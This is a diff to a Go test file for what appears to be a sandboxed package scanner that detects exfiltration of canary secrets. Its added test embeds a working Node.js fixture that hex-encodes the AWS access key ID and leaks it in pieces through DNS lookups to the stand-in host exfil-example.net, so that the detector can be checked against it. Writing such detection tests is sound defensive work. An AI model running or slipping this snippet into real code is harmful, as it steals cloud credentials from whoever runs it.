@@ -86,7 +86,8 @@ func TestEncodedExfiltration(t *testing.T) {
 			t.Errorf("%s: %d hits of the AWS secret, want %d to %d: %+v", want.channel, len(got), want.min, want.max, got)
 		}
 		for _, h := range got {
-			if h.Encoding != want.encoding || h.Phase != evidence.PhaseRun {
+			// A find across the queries names the encoding and the split.
+			if (h.Encoding != want.encoding && h.Encoding != want.encoding+", split across 2 queries") || h.Phase != evidence.PhaseRun {
 				t.Errorf("%s: hit %+v, want encoding %s in the run phase", want.channel, h, want.encoding)
 			}
 		}
@@ -112,12 +113,12 @@ func TestEncodedExfiltration(t *testing.T) {
 		case strings.HasPrefix(n.HTTPTarget, "/v1/p?d="):
 			targets++
 			// The base64 padding carries nothing of the secret and stays.
-			if strings.TrimRight(n.HTTPTarget, "=") != "/v1/p?d=[canary:aws_secret_access_key "+canary.Mask(secret)+"]" {
+			if strings.TrimRight(n.HTTPTarget, "=") != "/v1/p?d=[canary:aws_secret_access_key]" {
 				t.Errorf("stored HTTP target %q is not masked", n.HTTPTarget)
 			}
 		case n.SNI != "":
 			snis++
-			if n.SNI != "[canary:aws_secret_access_key "+canary.Mask(secret)+"]" {
+			if n.SNI != "[canary:aws_secret_access_key]" {
 				t.Errorf("stored server name %q is not masked", n.SNI)
 			}
 		}
@@ -183,4 +184,46 @@ func reverseString(s string) string {
 		b[i], b[j] = b[j], b[i]
 	}
 	return string(b)
+}
+
+// TestCanarySplitAcrossQueries: the AWS key id, hex-encoded and sent five
+// characters of it per lookup in four lookups, is no find in any one
+// name; read across the queries it is, and each stored name has its piece
+// masked.
+func TestCanarySplitAcrossQueries(t *testing.T) {
+	const split = `
+const hex = Buffer.from(process.env.AWS_ACCESS_KEY_ID).toString('hex');
+const dns = require('dns');
+const pieces = hex.match(/.{1,10}/g);
+(function next(i) {
+  if (i === pieces.length) return;
+  dns.lookup(pieces[i] + '.s.exfil-example.net', {family: 4}, () => next(i + 1));
+})(0);
+`
+	b, codes := scanFixture(t, behaviourSandbox(t), fixture{Name: "splitexfil", OnStart: split})
+	if !codes["pkg.behavior.canary_exfiltration"] {
+		t.Errorf("code pkg.behavior.canary_exfiltration not emitted (got %v)", keys(codes))
+	}
+	found := false
+	for _, h := range b.Behavior.Exfiltration {
+		if h.Channel == "dns" && h.Canary.Kind == canary.KindAWSAccessKeyID && strings.HasSuffix(h.Encoding, "split across 4 queries") {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("no DNS hit across the 4 queries: %+v", b.Behavior.Exfiltration)
+	}
+	n := 0
+	for _, e := range b.Behavior.Network {
+		if strings.HasSuffix(e.DNSName, ".s.exfil-example.net") {
+			n++
+			if !strings.HasPrefix(e.DNSName, "[canary:aws_access_key_id]") {
+				t.Errorf("stored name %q keeps its piece", e.DNSName)
+			}
+		}
+	}
+	if n < 4 {
+		t.Errorf("%d lookups stored, want the 4", n)
+	}
+	assertNoCanaryValues(t, b, nil)
 }
